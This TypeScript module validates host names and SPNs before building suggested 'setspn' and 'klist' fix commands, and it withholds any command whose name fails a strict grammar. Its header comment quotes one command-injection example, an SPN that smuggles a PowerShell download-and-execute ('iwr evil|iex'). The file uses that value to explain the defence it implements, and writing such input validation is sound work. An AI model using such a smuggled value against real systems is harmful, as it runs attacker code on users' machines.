// Commands offered as fixes are copied into a terminal: every name a command takes from the evidence (a host, an
// SPN, a realm) must match a strict grammar, or no command is offered at all — a hostile SPN such as
// "HTTP/x & iwr evil|iex" never reaches anyone's shell.

const LABEL = '[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?';
/** A DNS host name (RFC 1123 labels), an IPv4 address, or a bracketed IPv6 address, with an optional port. */
const HOST = `(?:${LABEL}(?:\\.${LABEL})*|\\[[0-9A-Fa-f:.]{2,45}\\])(?::\\d{1,5})?`;
/** A service principal name: service class "/" host [":" port] ["/" service name] ["@" REALM] (MS-ADTS, RFC 4120 §6.2). */
const SPN = `[A-Za-z][A-Za-z0-9-]{0,31}/${HOST}(?:/${LABEL}(?:\\.${LABEL})*)?(?:@${LABEL}(?:\\.${LABEL})*)?`;
const NAME = new RegExp(`^(?:${SPN}|${HOST})$`);

/** True for a host, host:port or SPN that may go into a command. */
export const isCommandSafeName = (name: string): boolean => name.length <= 300 && NAME.test(name);

/**
 * `command\`setspn -Q ${spn}\``: the command, or null when an interpolated name is not a plain host or SPN.
 * Numbers (ports) are always safe.
 */
export function command(template: TemplateStringsArray, ...names: (string | number)[]): string | null {
  let text = template[0] ?? '';
  for (let index = 0; index < names.length; index++) {
    const name = names[index] as string | number;
    if (typeof name === 'string' && !isCommandSafeName(name)) return null;
    text += String(name) + (template[index + 1] ?? '');
  }
  return text;
}

/** The fix's commands, those that could be built; `note` says when some were withheld. Spread into a Fix:
 *  `{ text, ...withCommands(command\`setspn -Q ${spn}\`, 'klist') }`. */
export function withCommands(...built: (string | null)[]): { readonly commands: string[]; readonly withheld?: string } {
  const commands = built.filter((item): item is string => item !== null);
  return built.includes(null)
    ? {
        commands,
        withheld:
          'Some commands are not offered: a name in the capture is not a plain host name or SPN, and text from the capture never goes into a command.',
      }
    : { commands };
}
